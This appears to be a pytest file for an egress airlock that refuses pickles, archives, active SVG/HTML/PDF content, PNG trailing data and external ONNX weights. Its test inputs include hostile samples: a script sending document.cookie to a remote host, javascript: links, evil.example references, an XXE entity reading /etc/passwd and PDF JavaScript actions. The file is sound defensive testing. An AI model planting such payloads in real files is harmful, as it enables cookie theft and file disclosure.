"""File-level airlock checks: size, type by content, active content (R1.1a, R4.4a)."""

from __future__ import annotations

import pickle
import zipfile
import zlib

import pytest

from opdomain.egress.check_models import onnx_parameters
from opdomain.egress.checks import Outcome
from opdomain.egress.messages import Code
from tests.egress.egress_helpers import check, onnx_model, write_text

CLEAN_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">'
    '<rect width="40" height="30" fill="#369"/><text x="5" y="45">等级分布 A–E</text>'
    '<use xlink:href="#bar"/></svg>'
)


def test_a_pickle_is_refused_because_loading_it_runs_code(tmp_path):
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps({"coef": [1.0, 2.0]}))
    report = check(path, kind="model")
    assert report.outcome is Outcome.FAIL
    assert Code.FILE_CODE_EXECUTION in report.codes(Outcome.FAIL)
    assert "code" in report.failures()[0].message.en


def test_a_pickle_renamed_to_csv_is_still_a_pickle(tmp_path):
    path = tmp_path / "result.csv"
    path.write_bytes(pickle.dumps([{"a": 1}], protocol=4))
    assert Code.FILE_CODE_EXECUTION in check(path).codes(Outcome.FAIL)


def test_a_text_protocol_pickle_is_recognised(tmp_path):
    path = tmp_path / "result.csv"
    path.write_bytes(pickle.dumps({"a": 1}, protocol=0))
    assert Code.FILE_CODE_EXECUTION in check(path).codes(Outcome.FAIL)


def test_a_joblib_file_is_refused_by_its_name_whatever_it_holds(tmp_path):
    path = tmp_path / "model.joblib"
    path.write_bytes(zlib.compress(b"anything"))
    assert Code.FILE_CODE_EXECUTION in check(path, kind="model").codes(Outcome.FAIL)


def test_archives_and_unknown_types_are_refused(tmp_path):
    archive = tmp_path / "out.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("raw.csv", "a,b\n1,2\n")
    notes = write_text(tmp_path / "notes.txt", "some notes")
    assert Code.FILE_TYPE_REFUSED in check(archive).codes(Outcome.FAIL)
    assert Code.FILE_TYPE_REFUSED in check(notes).codes(Outcome.FAIL)


def test_the_extension_must_match_the_content(tmp_path):
    path = write_text(tmp_path / "chart.png", "a,b\n1,2\n")
    assert Code.FILE_TYPE_MISMATCH in check(path, kind="figure").codes(Outcome.FAIL)


def test_files_over_the_size_limit_are_refused_before_being_opened(tmp_path):
    path = write_text(tmp_path / "big.csv", "n\n" + "12\n" * 1000)
    report = check(path, max_bytes=1000)
    assert Code.FILE_TOO_LARGE in report.codes(Outcome.FAIL)
    assert report.rows is None  # not read


def test_an_unusual_type_for_the_declared_kind_goes_to_review(tmp_path):
    path = write_text(tmp_path / "chart.svg", CLEAN_SVG)
    assert Code.FILE_KIND_UNUSUAL in check(path, kind="table").codes(Outcome.REVIEW)


# --- SVG ----------------------------------------------------------------------------------------------


def test_a_clean_svg_figure_passes(tmp_path):
    report = check(write_text(tmp_path / "chart.svg", CLEAN_SVG), kind="figure")
    assert report.outcome is Outcome.PASS, [f.message.en for f in report.findings]


@pytest.mark.parametrize(
    "svg, code",
    [
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x")</script></svg>', Code.ACTIVE_CONTENT),
        ('<svg xmlns="http://www.w3.org/2000/svg"><rect onload="alert(1)"/></svg>', Code.ACTIVE_CONTENT),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>hi</p></foreignObject></svg>',
            Code.ACTIVE_CONTENT,
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<image xlink:href="https://evil.example/p.png"/></svg>',
            Code.EXTERNAL_REFERENCE,
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
            Code.ACTIVE_CONTENT,
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/a.css);</style></svg>',
            Code.EXTERNAL_REFERENCE,
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
            Code.ACTIVE_CONTENT,
        ),
        (
            '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
            Code.ENTITY_DECLARATION,
        ),
    ],
)
def test_svg_with_active_content_or_external_references_is_refused(tmp_path, svg, code):
    report = check(write_text(tmp_path / "chart.svg", svg), kind="figure")
    assert code in report.codes(Outcome.FAIL)


def test_identifiers_in_svg_text_are_found(tmp_path):
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>联系 13812345678</text></svg>'
    report = check(write_text(tmp_path / "chart.svg", svg), kind="figure")
    assert Code.IDENTIFIER in report.codes(Outcome.FAIL)


# --- HTML, PDF, PNG ---------------------------------------------------------------------------------


def test_a_self_contained_html_report_passes(tmp_path):
    html = (
        "<!doctype html><html><head><style>td{color:#333}</style></head><body><h1>等级分布</h1>"
        '<img src="data:image/png;base64,iVBORw0KGgo="><a href="https://example.org/method">方法</a>'
        "<table><tr><td>A</td><td>129</td></tr></table></body></html>"
    )
    report = check(write_text(tmp_path / "report.html", html), kind="report")
    assert report.outcome is Outcome.PASS, [f.message.en for f in report.findings]


@pytest.mark.parametrize(
    "body, code",
    [
        ("<script>new Image().src='//x/'+document.cookie</script>", Code.ACTIVE_CONTENT),
        ('<img src="https://tracker.example/p.gif">', Code.EXTERNAL_REFERENCE),
        ('<link rel="stylesheet" href="//cdn.example/a.css">', Code.EXTERNAL_REFERENCE),
        ('<div onclick="x()">a</div>', Code.ACTIVE_CONTENT),
        ('<iframe src="report2.html"></iframe>', Code.ACTIVE_CONTENT),
        ('<div style="background:url(http://x.example/a.png)">a</div>', Code.EXTERNAL_REFERENCE),
    ],
)
def test_html_reports_with_scripts_or_external_resources_are_refused(tmp_path, body, code):
    html = f"<html><body>{body}</body></html>"
    assert code in check(write_text(tmp_path / "report.html", html), kind="report").codes(Outcome.FAIL)


def _pdf(extra: bytes = b"") -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog " + extra + b" >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def test_a_pdf_always_needs_a_reader(tmp_path):
    path = tmp_path / "report.pdf"
    path.write_bytes(_pdf())
    report = check(path, kind="report")
    assert report.outcome is Outcome.REVIEW
    assert Code.PDF_NEEDS_READING in report.codes(Outcome.REVIEW)


@pytest.mark.parametrize("extra", [b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/J#61vaScript (x)"])
def test_a_pdf_with_javascript_is_refused_even_hex_escaped(tmp_path, extra):
    path = tmp_path / "report.pdf"
    path.write_bytes(_pdf(extra))
    assert Code.ACTIVE_CONTENT in check(path, kind="report").codes(Outcome.FAIL)


def test_a_pdf_hiding_javascript_in_a_compressed_stream_is_refused(tmp_path):
    stream = zlib.compress(b"<< /S /JavaScript /JS (x) >>")
    path = tmp_path / "report.pdf"
    path.write_bytes(_pdf() + b"2 0 obj\n<< /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream\nendobj\n")
    assert Code.ACTIVE_CONTENT in check(path, kind="report").codes(Outcome.FAIL)


def _png(chunks: list[tuple[bytes, bytes]], trailer: bytes = b"") -> bytes:
    out = b"\x89PNG\r\n\x1a\n"
    for kind, data in [(b"IHDR", bytes(13)), *chunks, (b"IEND", b"")]:
        out += len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
    return out + trailer


def test_a_png_with_data_after_its_end_is_refused(tmp_path):
    path = tmp_path / "chart.png"
    path.write_bytes(_png([], trailer=b"uscc,grade\n91330324YJ0000017W,A\n"))
    assert Code.PNG_TRAILING_DATA in check(path, kind="figure").codes(Outcome.FAIL)


def test_png_text_chunks_go_to_review_and_are_scanned(tmp_path):
    path = tmp_path / "chart.png"
    path.write_bytes(_png([(b"tEXt", b"Comment\x00call 13812345678")]))
    report = check(path, kind="figure")
    assert Code.PNG_TEXT_CHUNKS in report.codes(Outcome.REVIEW)
    assert Code.IDENTIFIER in report.codes(Outcome.FAIL)


def test_a_plain_png_passes(tmp_path):
    path = tmp_path / "chart.png"
    path.write_bytes(_png([(b"IDAT", zlib.compress(bytes(20)))]))
    assert check(path, kind="figure").outcome is Outcome.PASS


# --- ONNX -----------------------------------------------------------------------------------------------


def test_onnx_parameters_are_counted_from_the_protobuf():
    info = onnx_parameters(onnx_model((14, 1), (1,)))
    assert info is not None and info.parameters == 15 and not info.external


def test_bytes_that_are_not_onnx_are_not_a_model():
    assert onnx_parameters(b"\x00\x01garbage") is None
    assert onnx_parameters(b"") is None


def test_an_onnx_model_with_few_parameters_passes(tmp_path):
    path = tmp_path / "model.onnx"
    path.write_bytes(onnx_model((14, 1), (1,)))
    report = check(path, kind="model", subject_count=1290)
    assert report.outcome is Outcome.PASS, [f.message.en for f in report.findings]


def test_an_onnx_model_with_external_weights_is_refused(tmp_path):
    path = tmp_path / "model.onnx"
    path.write_bytes(onnx_model((14, 1), external=True))
    assert Code.EXTERNAL_WEIGHTS in check(path, kind="model", subject_count=1290).codes(Outcome.FAIL)
